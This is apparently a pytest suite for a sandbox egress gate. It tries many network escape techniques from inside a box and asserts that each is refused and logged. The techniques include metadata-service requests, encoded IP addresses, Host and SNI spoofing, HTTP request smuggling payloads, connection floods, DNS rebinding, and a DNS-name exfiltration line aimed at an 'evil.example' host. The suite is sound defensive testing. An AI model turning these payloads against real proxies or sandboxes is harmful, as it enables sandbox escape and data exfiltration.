"""Ways past the line, tried from inside a real box. Each is refused, with its entry in the journal where it gets as far as the gate, and each has a
control: the same act where a rule allows it, or the same bytes from outside, gets through."""
import json
import re
import socketserver
import threading
import time

import pytest

import patience
from carrel import BUILD
from conftest import Gated
from tally import attack, counts


PRELUDE = """
import socket, ssl, struct, sys, time
def dial(host, port, data=b"", wait=5):
    out = b""
    try:
        s = socket.create_connection((host, port), 5); s.settimeout(wait)
        if data: s.sendall(data)
        while part := s.recv(65536): out += part
    except (ConnectionResetError, BrokenPipeError): return "reset"  # it may come as early as that
    except socket.timeout: return "timeout " + out.decode("latin-1")
    return out.decode("latin-1")
def say(text):
    print(str(text)[:300].replace("\\r\\n", " "))
def inside(host, port, name, says=None):
    c = ssl._create_unverified_context(); c.check_hostname = False
    s = c.wrap_socket(socket.create_connection((host, port), 5), server_hostname=name); s.settimeout(5)
    s.sendall(f"GET / HTTP/1.1\\r\\nHost: {says or host}:{port}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    out = b""
    try:
        while part := s.recv(65536): out += part
    except OSError: pass
    return out.decode("latin-1")
def get(host, port, path="/", name=None, more="", version="1.1", method="GET", body=""):
    name = host if name is None else name
    return dial(host, port, f"{method} {path} HTTP/{version}\\r\\nHost: {name}\\r\\nConnection: close\\r\\n{more}\\r\\n{body}".encode())
"""

# name, script, what the machine sees (any of), what the journal says, what the control's rule is and must give
HTTP, TLS, TCP = "{http}", "{https}", "{tcp}"
ROWS = [
    ("a host that no rule names", "say(get('other.test', {http}))", ["403"], "no rule allows it", "other.test:{http}", "200"),
    ("an address dialled directly", "say(get('127.0.0.9', {http}) if 0 else get('203.0.113.7', {http}))", ["403"], "no rule allows it", None, None),
    ("the metadata service", "say(get('169.254.169.254', 80))", ["403"], "no rule allows it", None, None),
    ("a private address", "say(get('10.0.0.1', {http}))", ["403"], "no rule allows it", None, None),
    ("bytes to an address", "say(dial('8.8.8.8', 53, b'\\x00\\x1d' + b'x' * 29))", ["reset"], "no rule allows it", None, None),
    ("another port of an allowed host", "say(get('ok.test', {tcp}))", ["403"], "no rule allows it", "ok.test:{tcp}", "hello"),
    ("a decimal address", "say(get('3405803783', {http}, name='3405803783'))", ["403"], "its Host makes no sense", None, None),
    ("an octal address", "say(get('0313.0.0161.7', {http}))", ["403"], "its Host makes no sense", None, None),
    ("a mapped address", "s = socket.socket(socket.AF_INET6); s.settimeout(5); s.connect(('::ffff:203.0.113.7', {http})); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); say(s.recv(99))", ["403"], "", None, None),
    ("a name that leads to a private address", "say(get('private.test', 8080))", ["403"], "leads to a private address", None, None),
    ("Host of another", "say(get('ok.test', {http}, name='other.test'))", ["403"], "its Host is another", None, None),
    ("Host with another port", "say(get('ok.test', {http}, name='ok.test:1'))", ["403"], "another port", None, None),
    ("no Host", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n'))", ["400", "403"], "", None, None),
    ("two Hosts", "say(get('ok.test', {http}, more='Host: other.test\\r\\n'))", ["400", "403"], "", None, None),
    ("absolute form to another host", "say(get('ok.test', {http}, path='http://other.test/'))", ["403"], "its Host is another", None, None),
    ("CONNECT outside of the proxy", "say(dial('ok.test', {http}, b'CONNECT other.test:80 HTTP/1.1\\r\\nHost: other.test:80\\r\\n\\r\\n'))", ["403"], "CONNECT is for the proxy", None, None),
    ("a second request for another host", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n').split('HTTP/1.1 ')[-1])", ["403"], "its Host is another", None, None),
    ("TLS named for another", "say(inside('ok.test', {https}, 'other.test'))", ["403"], "names another server", None, None),
    ("TLS without a name", "say(inside('ok.test', {https}, None))", ["403"], "names no server", None, None),
    ("TLS to a host that no rule names", "say(inside('other.test', {https}, 'other.test'))", ["403"], "no rule allows it", "https://other.test:{https}", "200"),
    ("another Host inside TLS", "say(inside('api.test', {https}, 'api.test', 'other.test'))", ["403"], "its Host is another", None, None),
    ("TLS that makes no sense", "say(dial('ok.test', {https}, b'\\x16\\x03\\x01\\x00\\x05\\x02aaaa'))", ["reset"], "makes no sense", None, None),
    ("other bytes where TLS is allowed", "say(dial('ok.test', {https}, b'SSH-2.0-x\\r\\n'))", ["reset"], "no rule allows it", None, None),
    ("smuggling by two lengths", "say(get('ok.test', {http}, method='POST', more='Content-Length: 4\\r\\nContent-Length: 44\\r\\n', body='aaaa'))", ["400"], "", None, None),
    ("smuggling by length and chunks", "say(get('ok.test', {http}, method='POST', more='Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n', body='0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n'))", ["400"], "", None, None),
    ("smuggling by another coding", "say(get('ok.test', {http}, method='POST', more='Transfer-Encoding: xchunked\\r\\n', body='0\\r\\n\\r\\n'))", ["400", "501"], "", None, None),
    ("a bare LF", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\nHost: ok.test\\n\\n'))", ["400", "reset"], "", None, None),
    ("a header flood", "say(get('ok.test', {http}, more='X: y\\r\\n' * 5000))", ["431", "reset"], "", None, None),
    ("h2c", "say(get('ok.test', {http}, more='Upgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nHTTP2-Settings: AAMAAABk\\r\\n').split('\"headers\"')[1])", ["Host"], None, None, None),
    ("the HTTP/2 preface", "say(dial('ok.test', {http}, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))", ["400", "505", "reset"], "", None, None),
    ("the gate's own port", "say(dial('127.0.0.1', 3129, b'GET / HTTP/1.1\\r\\n\\r\\n'))", ["reset"], "that is the gate itself", None, None),
    ("another host through the proxy", "say(dial('127.0.0.1', 3128, b'GET http://other.test:{http}/ HTTP/1.1\\r\\nHost: other.test:{http}\\r\\nConnection: close\\r\\n\\r\\n'))", ["403"], "no rule allows it", None, None),
    ("another host by CONNECT", "say(dial('127.0.0.1', 3128, b'CONNECT other.test:{http} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test:{http}\\r\\n\\r\\n').split('HTTP/1.1 ')[-1])", ["403"], "no rule allows it", None, None),
    # What the kernel refuses in the call itself never comes to the gate: that the same by TCP is refused stands in the journal.
    ("a name query to a server outside", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'x' * 30, ('8.8.8.8', 53)); say('sent')\nexcept OSError as e: say(e.strerror)\ndial('8.8.8.8', 53, b'x' * 30)", ["Operation not permitted"], "no rule allows it", None, None),
    ("an IPv6 address", "s = socket.socket(socket.AF_INET6)\ntry: s.connect(('2001:db8::1', 443)); say('reached')\nexcept OSError as e: say(e.strerror)\ndial('203.0.113.7', 443, b'x' * 30)", ["Network is unreachable"], "no rule allows it", None, None),
    ("data hidden in a name", "say(socket.gethostbyname('c2VjcmV0.evil.example') + get('c2VjcmV0.evil.example', 80))", ["403"], "no rule allows it", None, None),
]


def metric(daemon, outcome):
    text = daemon.request("GET", "/metrics", raw=True).decode()
    return int(re.search(rf'^carrel_gate_crossings_total{{outcome="{outcome}"}} (\d+)$', text, re.M)[1])


@pytest.fixture(scope="module")
def box(gated_session, servers):
    m = gated_session.machine()
    for target in (f"http://ok.test:{servers.http}", f"https://ok.test:{servers.https}"):
        gated_session.allow(m, target)
    gated_session.allow(m, f"https://api.test:{servers.https}/", methods="GET")
    gated_session.post(f"/v1/machines/{m}/net/rules", {"target": "private.test:8080"})
    yield m
    gated_session.clear()


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r[0].replace(" ", "-"))
def test_refused(gated_session, servers, box, row):
    name, script, seen, journal, rule, control = row
    ports = {"http": servers.http, "https": servers.https, "tcp": servers.tcp}

    def fill(text):
        for key, port in ports.items():
            text = text.replace("{" + key + "}", str(port))
        return text
    before = len(gated_session.notes(box, verb="net.deny", count=0))
    servers.forget()
    done = gated_session.python(box, PRELUDE + fill(script), timeout="30s")
    assert any(s in done["stdout"] for s in seen), done
    assert not any("smuggled" in r["path"] or ("other.test" in dict(r["headers"]).get("Host", "")) for r in servers.web.seen)
    counts["attacks tried, all refused"] += 1
    if journal is not None:
        notes = gated_session.notes(box, verb="net.deny", count=before + 1)
        assert journal in notes[-1]["reason"], notes[-1]
    else:  # it was made harmless, and went on as what it then is
        assert gated_session.notes(box, verb="net.allow")[-1]["detail"]["path"] == "/"
    counts["with their entry in the journal"] += 1
    if rule:
        m = gated_session.machine(net=[{"target": fill(rule), "local": True}])
        done = gated_session.python(m, PRELUDE + fill(script))
        assert control in done["stdout"] or "502" in done["stdout"], done
        counts["with a control that got through"] += 1


def test_control_every_allowed_thing_gets_through(gated_session, servers, box):
    script = PRELUDE + f"say(get('ok.test', {servers.http}))"
    assert "200 OK" in gated_session.python(box, script)["stdout"]


def test_a_redirect_does_not_lead_out(gated_session, servers, box):
    before = len(gated_session.notes(box, verb="net.deny", count=0))
    done = gated_session.exec(box, ["curl", "-sSL", "--max-time", "20", f"http://ok.test:{servers.http}/redirect"])
    assert json.loads(done["stdout"])["error"]["message"].endswith("'169.254.169.254:80'")
    assert gated_session.notes(box, verb="net.deny", count=before + 1)[-1]["detail"]["host"] == "169.254.169.254"
    attack()


def test_slow_requests_end(gated_session, servers, box):
    script = PRELUDE + f"""
s = socket.create_connection(("ok.test", {servers.http})); s.settimeout(30); began = time.monotonic()
try:
    for c in "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n" + "X: y\\r\\n" * 100:
        s.sendall(c.encode()); time.sleep(0.1)
    say("taken")
except OSError as e: say("ended")
print(time.monotonic() - began < 20)
"""
    before = len(gated_session.notes(box, verb="net.deny", count=0))
    assert gated_session.python(box, script, timeout="60s")["stdout"].split() == ["ended", "True"]
    assert "did not come in time" in gated_session.notes(box, verb="net.deny", count=before + 1)[-1]["reason"]
    attack()


def test_ten_thousand_connections_hurt_nobody_else(gated_session, servers, box):
    """Beyond its share each is reset at once; the daemon serves on meanwhile, and the machine after them."""
    other = gated_session.machine(net=[{"target": f"ok.test:{servers.http}", "local": True}])
    script = PRELUDE + """
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
kept, reset = [], 0
for i in range(10000):
    s = socket.socket()
    try: s.connect(("198.51.100.7", 9))
    except OSError: reset += 1; s.close(); continue
    kept.append(s)
    if len(kept) > 2000:
        kept.pop(0).close()
print("done")
"""
    before = metric(gated_session, "too_many")
    x = gated_session.background(box, ["python3", "-c", script], timeout="100s")
    done = gated_session.exec(other, ["curl", "-sS", "--max-time", "30", f"http://ok.test:{servers.http}/meanwhile"])
    assert '"/meanwhile"' in done["stdout"]
    assert gated_session.wait(box, x, 110)["status"] == 0
    assert metric(gated_session, "too_many") > before  # some were above its share
    reasons = {n["reason"] for n in gated_session.notes(box, verb="net.deny")}
    assert "it has too many connections already" in reasons, reasons
    attack(10000, journalled=False)  # the journal says it for the crowd, not for each
    gated_session.until(lambda: "200 OK" in gated_session.python(
        box, PRELUDE + f"say(get('ok.test', {servers.http}))")["stdout"], 30)


def test_a_box_changes_no_route_and_no_rule(gated_session):
    script = PRELUDE + """
def attempt(f):
    try: f(); say("done")
    except OSError as e: say(type(e).__name__)
attempt(lambda: socket.socket(16, 3, 12))
attempt(lambda: socket.socket().setsockopt(0, 19, 1))
n = socket.socket(16, 3, 0); n.bind((0, 0))
n.send(struct.pack("IHHII", 16 + 16, 17, 5, 1, 0) + struct.pack("BBBBI", 0, 0, 0, 1, 1) + b"\\0" * 8)
reply = n.recv(4096); say(struct.unpack("i", reply[16:20])[0])
"""
    box = gated_session.machine()
    out = gated_session.python(box, script + "say(get('203.0.113.7', 80))", user="root")["stdout"].split()
    assert out[0] != "done" and out[1] == "PermissionError" and int(out[2]) < 0 and "403" in out
    # The line is where it was: what it then tried is refused, and written down.
    assert gated_session.notes(box, verb="net.deny")[-1]["detail"]["host"] == "203.0.113.7"
    attack(3, journalled=False)  # the kernel says no, before the gate could hear of it


# ---- servers that lie ----


class Raw(socketserver.ThreadingTCPServer):
    """Answers every head with these bytes, whatever they are, and stays."""
    daemon_threads = True

    def __init__(self, answer):
        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.settimeout(20)
                while (head := self.request.recv(65536)):
                    if b"\r\n\r\n" in head:
                        self.request.sendall(answer)
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


LIES = {
    "two lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 99\r\n\r\nok",
    "length and chunks": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nsmuggled",
    "a coding that nobody knows": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "a bare LF": b"HTTP/1.1 200 OK\nContent-Length: 2\n\nok",
    "a folded field": b"HTTP/1.1 200 OK\r\nX: a\r\n b\r\nContent-Length: 2\r\n\r\nok",
    "a flood of fields": b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20000 + b"\r\n",
    "no HTTP": b"SSH-2.0-OpenSSH\r\n\r\n",
}


@pytest.mark.parametrize("lie", LIES)
def test_an_answer_that_can_be_read_in_two_ways_is_not_passed_on(gated_session, lie):
    server = Raw(LIES[lie])
    m = gated_session.machine()
    gated_session.allow(m, f"http://ok.test:{server.server_address[1]}")
    done = gated_session.python(m, PRELUDE + f"say(get('ok.test', {server.server_address[1]}))", timeout="30s")
    server.shutdown()
    assert "502" in done["stdout"] and "smuggled" not in done["stdout"], done
    notes = gated_session.notes(m, verb="net", count=1)
    assert any("server" in (n.get("reason") or "") or n["verb"] == "net.close" for n in notes), notes
    attack()


def test_a_second_answer_is_nobodys(gated_session):
    """Bytes behind an answer do not become the answer to the next request."""
    server = Raw(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled")
    port = server.server_address[1]
    m = gated_session.machine()
    gated_session.allow(m, f"http://ok.test:{port}")
    done = gated_session.python(m, PRELUDE + f"""
import http.client
c = http.client.HTTPConnection("ok.test", {port}, timeout=10)
for n in range(3):
    try:
        c.request("GET", "/")
        say(c.getresponse().read())
    except (OSError, http.client.HTTPException) as e:
        say(type(e).__name__); c.close()
""", timeout="40s")
    server.shutdown()
    assert "b'ok'" in done["stdout"] and "smuggled" not in done["stdout"], done
    attack()


# ---- a machine that plays with its side of a socket ----


TRICKS = {
    "never reads": "s.sendall(req * 50); time.sleep(4)",
    "urgent data": "s.send(b'!', socket.MSG_OOB); s.sendall(req); time.sleep(2)",
    "half closed": "s.sendall(req[:-2]); s.shutdown(socket.SHUT_WR); time.sleep(2)",
    "reset at once": "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.sendall(req); s.close()",
    "a window of nothing": "s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1); s.sendall(req * 20); time.sleep(4)",
    "byte by byte": "[ (s.sendall(req[i:i + 1]), time.sleep(0.01)) for i in range(len(req)) ]; time.sleep(1)",
}


@pytest.mark.parametrize("trick", TRICKS)
def test_a_socket_that_is_played_with_blocks_nobody(gated_session, servers, box, trick):
    script = PRELUDE + f"""
req = b"GET /big HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"
for _ in range(20):
    try:
        s = socket.create_connection(("ok.test", {servers.http})); s.settimeout(5)
        {TRICKS[trick].replace("time.sleep(4)", "time.sleep(0.2)").replace("time.sleep(2)", "time.sleep(0.1)").replace("time.sleep(1)", "time.sleep(0.1)")}
    except OSError: pass
print("done")
""".replace("\\\\", "\\")
    before = len(gated_session.notes(box, count=0))
    x = gated_session.background(box, ["python3", "-c", script], timeout="60s")
    other = gated_session.machine(net=[{"target": f"ok.test:{servers.http}", "local": True}])
    for _ in range(5):
        began = time.monotonic()
        done = gated_session.exec(other, ["curl", "-sS", "--max-time", "20", f"http://ok.test:{servers.http}/meanwhile"])
        assert '"/meanwhile"' in done["stdout"] and time.monotonic() - began < 5 * patience.PATIENCE, done
    gated_session.wait(box, x, 90)
    # Each that got as far as a request is in the journal: let through and closed, or refused for what it lacked.
    verbs = {n["verb"] for n in gated_session.notes(box, count=before + 20, seconds=30)[before:]}
    assert verbs <= {"net.allow", "net.close", "net.deny"} and verbs, verbs
    attack(20)


# ---- names that change ----


class Named(socketserver.ThreadingTCPServer):
    """Says at which address it was reached."""
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, address, port=0):
        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                self.rfile.readline()
                text = address.encode()
                self.wfile.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(text), text))
        super().__init__((address, port), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture
def turning(servers, tmp_path):
    """A daemon whose name server changes its mind after the first question."""
    preload = BUILD / "tests/daemon/libturn-names.so"
    d = Gated(servers.dir / "ca.pem")
    d.kill()
    d.start(env={"LD_PRELOAD": str(preload), "TURN_NAMES": str(tmp_path / "asked")})
    yield d
    d.stop()


def test_a_name_that_is_turned_leads_where_it_was_looked_up(turning, tmp_path):
    """What was looked at is what is dialled: a second answer, which leads elsewhere, is nobody's."""
    first = Named("127.0.0.2")
    port = first.server_address[1]
    second = Named("127.0.0.1", port)
    box = turning.machine()
    turning.allow(box, f"http://a.turn.test:{port}")
    for _ in range(5):
        assert turning.python(box, PRELUDE + f"say(get('a.turn.test', {port}))")["stdout"].split()[-1] == "127.0.0.2"
    assert {n["detail"]["address"].rsplit(":", 1)[0] for n in turning.notes(box, verb="net.allow", count=5)} == {"127.0.0.2"}
    assert (tmp_path / "asked").read_text() == "a.turn.test\n", "it is looked up once"
    # Another name is asked for now, and answered with what no rule allows: refused by the address, whatever the name.
    turning.post(f"/v1/machines/{box}/net/rules", {"target": f"http://b.turn.test:{port}"})
    done = turning.python(box, PRELUDE + f"say(get('b.turn.test', {port}))")
    assert "403" in done["stdout"] and "leads to a loopback address" in turning.notes(box, verb="net.deny")[-1]["reason"], done
    for s in (first, second):
        s.shutdown()
    attack(6)
